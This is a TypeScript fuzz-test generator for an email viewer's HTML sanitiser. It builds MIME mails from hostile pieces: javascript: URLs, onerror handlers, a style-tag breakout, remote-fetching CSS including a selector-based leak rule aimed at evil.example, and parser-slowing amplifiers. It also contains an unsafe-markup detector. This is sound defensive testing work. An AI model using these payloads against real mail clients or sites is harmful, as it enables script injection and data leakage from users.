// The viewer fuzz tests' cases: HTML mails built by fast-check from hostile pieces — script, event
// handlers, javascript: and remote URLs, CSS that fetches or hides behind escapes, comments, bogus end
// tags — and amplifiers that make a parser or a pattern slow: a piece repeated thousands of times,
// elements nested thousands deep, one attribute tens of kilobytes long, style sheets nested deep.
// Each case becomes a mail (text/html, maybe beside text/plain and an inline image).
import fc from 'fast-check';

export type HtmlPiece =
  | { kind: 'text'; text: string }
  | { kind: 'element'; tag: string; attributes: [string, string][]; children: HtmlPiece[]; closed: boolean }
  | { kind: 'style'; css: string }
  | { kind: 'raw'; text: string }
  | { kind: 'repeat'; piece: HtmlPiece; times: number }
  | { kind: 'nest'; tag: string; depth: number; closed: boolean };

const TAGS = [
  ...['div', 'p', 'span', 'table', 'tr', 'td', 'a', 'img', 'b', 'font', 'center', 'ul', 'li', 'pre'],
  ...['script', 'iframe', 'svg', 'math', 'object', 'form', 'input', 'textarea', 'xmp', 'noscript'],
  ...['template', 'title', 'meta', 'base', 'link', 'style', 'video', 'select', 'option'],
];
const ATTRIBUTES = ['style', 'href', 'src', 'srcset', 'background', 'onerror', 'onclick', 'class', 'title'];
const URLS = [
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'https://evil.example/x',
  '//evil.example/x',
  'cid:part1@example.jp',
  'data:image/png;base64,iVBORw0KGgo=',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
];
const STYLES = [
  'color: red',
  'background: url(https://evil.example/a)',
  'background-image: image-set("https://evil.example/b" 1x)',
  'color: \\75rl(x)',
  'width: expression(alert(1))',
  'behavior: url(x.htc)',
  'font-family: "a", b; margin: calc(1px + 2%)',
  'color: rgb(1, 2, 3) !important',
];
const SHEETS = [
  'p { color: red }',
  '@import url(https://evil.example/s.css);',
  '@font-face { src: url(https://evil.example/f.woff) }',
  'a[href^="a"] { background: url(https://evil.example/leak?a) }',
  '@media screen { p { color: blue } }',
  'p { color: red } </style><script>alert(1)</script>',
  'p{color:\\72 ed}',
];
const RAW = [
  '<!-- c -->',
  '<!--',
  '<![CDATA[ x ]]>',
  '<!doctype html>',
  '</b>',
  '</div>',
  '&amp;&lt;&#x3c;',
  '<',
  '<a',
  '"',
  "'",
];

const longText = (unit: string) => fc.integer({ min: 1, max: 40_000 }).map((n) => unit.repeat(n));

const attributeValue = fc.oneof(
  { arbitrary: fc.constantFrom(...URLS), weight: 3 },
  { arbitrary: fc.constantFrom(...STYLES), weight: 3 },
  { arbitrary: fc.string({ maxLength: 40 }), weight: 2 },
  { arbitrary: fc.constantFrom('a', 'a(', ' ', '-').chain(longText), weight: 1 },
);

export const htmlPiece: fc.Arbitrary<HtmlPiece> = fc.letrec<{ piece: HtmlPiece }>((tie) => ({
  piece: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { arbitrary: fc.string({ maxLength: 60 }).map((text) => ({ kind: 'text' as const, text })), weight: 4 },
    {
      arbitrary: fc.record({
        kind: fc.constant('element' as const),
        tag: fc.constantFrom(...TAGS),
        attributes: fc.array(fc.tuple(fc.constantFrom(...ATTRIBUTES), attributeValue), { maxLength: 3 }),
        children: fc.array(tie('piece'), { maxLength: 4 }),
        closed: fc.boolean(),
      }),
      weight: 5,
    },
    {
      arbitrary: fc
        .array(
          fc.oneof(
            fc.constantFrom(...SHEETS),
            fc.integer({ min: 1, max: 40_000 }).map((n) => `${'@media screen{'.repeat(n)}p{color:red}`),
            longText('a').map((run) => `p{color:${run}}`),
          ),
          { minLength: 1, maxLength: 3 },
        )
        .map((rules) => ({ kind: 'style' as const, css: rules.join('\n') })),
      weight: 2,
    },
    { arbitrary: fc.constantFrom(...RAW).map((text) => ({ kind: 'raw' as const, text })), weight: 2 },
    {
      arbitrary: fc.record({
        kind: fc.constant('repeat' as const),
        piece: tie('piece'),
        times: fc.oneof(fc.integer({ min: 2, max: 50 }), fc.integer({ min: 1000, max: 20_000 })),
      }),
      weight: 1,
    },
    {
      arbitrary: fc.record({
        kind: fc.constant('nest' as const),
        tag: fc.constantFrom('div', 'span', 'table', 'b', 'font', 'blockquote'),
        depth: fc.oneof(fc.integer({ min: 2, max: 200 }), fc.integer({ min: 10_000, max: 500_000 })),
        closed: fc.boolean(),
      }),
      weight: 1,
    },
  ),
})).piece;

/** Larger documents are cut here: the test is about work per byte, not about the 2.5 MB cap. */
const MAX_HTML_CHARS = 3_000_000;

export function renderHtml(piece: HtmlPiece): string {
  const out: string[] = [];
  let size = 0;
  const push = (text: string) => {
    if (size < MAX_HTML_CHARS) out.push(text);
    size += text.length;
  };
  const walk = (p: HtmlPiece): void => {
    switch (p.kind) {
      case 'text':
      case 'raw':
        push(p.text);
        return;
      case 'style':
        push(`<style>${p.css}</style>`);
        return;
      case 'element': {
        const attributes = p.attributes.map(([name, value]) => ` ${name}="${value.replace(/"/g, '&quot;')}"`);
        push(`<${p.tag}${attributes.join('')}>`);
        for (const child of p.children) walk(child);
        if (p.closed) push(`</${p.tag}>`);
        return;
      }
      case 'repeat':
        for (let i = 0; i < p.times && size < MAX_HTML_CHARS; i++) walk(p.piece);
        return;
      case 'nest':
        push(`<${p.tag}>`.repeat(p.depth));
        push('x');
        if (p.closed) push(`</${p.tag}>`.repeat(p.depth));
        return;
    }
  };
  walk(piece);
  return out.join('').slice(0, MAX_HTML_CHARS);
}

export interface HtmlMailCase {
  pieces: HtmlPiece[];
  withText: boolean;
  withImage: boolean;
  encoding: 'base64' | 'quoted-printable' | '8bit';
}

export const htmlMailCase: fc.Arbitrary<HtmlMailCase> = fc.record({
  pieces: fc.array(htmlPiece, { minLength: 1, maxLength: 6 }),
  withText: fc.boolean(),
  withImage: fc.boolean(),
  encoding: fc.constantFrom('base64' as const, 'quoted-printable' as const, '8bit' as const),
});

const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

export function htmlMail(c: HtmlMailCase): Buffer {
  const html = c.pieces.map(renderHtml).join('');
  const body = encode(html, c.encoding);
  const htmlPart = [
    `Content-Type: text/html; charset=utf-8`,
    `Content-Transfer-Encoding: ${c.encoding}`,
    '',
    body,
  ];
  const parts = [
    ...(c.withText ? [['Content-Type: text/plain; charset=utf-8', '', 'plain text body']] : []),
    htmlPart,
    ...(c.withImage
      ? [
          [
            'Content-Type: image/png',
            'Content-ID: <part1@example.jp>',
            'Content-Transfer-Encoding: base64',
            '',
            PNG,
          ],
        ]
      : []),
  ];
  const head = ['From: shop@example.jp', 'To: hanako@example.net', 'Subject: fuzz', 'MIME-Version: 1.0'];
  if (parts.length === 1) return Buffer.from([...head, ...htmlPart, ''].join('\r\n'));
  const multipart = [
    ...head,
    'Content-Type: multipart/related; boundary="FUZZ"',
    '',
    ...parts.flatMap((part) => ['--FUZZ', ...part]),
    '--FUZZ--',
    '',
  ];
  return Buffer.from(multipart.join('\r\n'));
}

function encode(text: string, encoding: HtmlMailCase['encoding']): string {
  if (encoding === 'base64')
    return (
      Buffer.from(text)
        .toString('base64')
        .match(/.{1,76}/g) ?? []
    ).join('\r\n');
  if (encoding === '8bit') return text.replace(/\r?\n/g, '\r\n');
  return text
    .replace(/=/g, '=3D')
    .replace(/[^\t\r\n -~]/g, (c) =>
      [...Buffer.from(c)].map((b) => `=${b.toString(16).toUpperCase().padStart(2, '0')}`).join(''),
    )
    .replace(/(.{1,72})/g, '$1=\r\n');
}

/** Tags, attributes and CSS that must never survive the sanitiser, in the iframe's document. */
export function unsafeMarkup(srcdoc: string): string[] {
  const found: string[] = [];
  for (const sheet of srcdoc.matchAll(/<style>([\s\S]*?)<\/style>/gi)) {
    if (/url\(|image-set|@import|@font-face|expression|\\/i.test(sheet[1] ?? ''))
      found.push('an unsafe style sheet');
  }
  for (const tag of srcdoc.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)) {
    const [, name = '', attributes = ''] = tag;
    if (
      /^(script|iframe|svg|math|object|embed|form|input|textarea|meta|base|link|video|template|select)$/i.test(
        name,
      )
    ) {
      found.push(`<${name}>`);
    }
    if (/\son[a-z]+\s*=/i.test(attributes)) found.push(`event handler on <${name}>`);
    if (
      /\b(?:href|src)\s*=\s*"\s*(?!https?:|mailto:|data:image\/(?:png|jpeg|gif|webp);base64,)/i.test(
        attributes,
      )
    ) {
      found.push(`a link or source of another scheme on <${name}>`);
    }
    if (/\bsrc\s*=\s*"\s*https?:/i.test(attributes)) found.push(`a remote source on <${name}>`);
    if (/style\s*=\s*"[^"]*(?:url|image-set|expression|\\)/i.test(attributes))
      found.push(`unsafe style on <${name}>`);
  }
  return found;
}
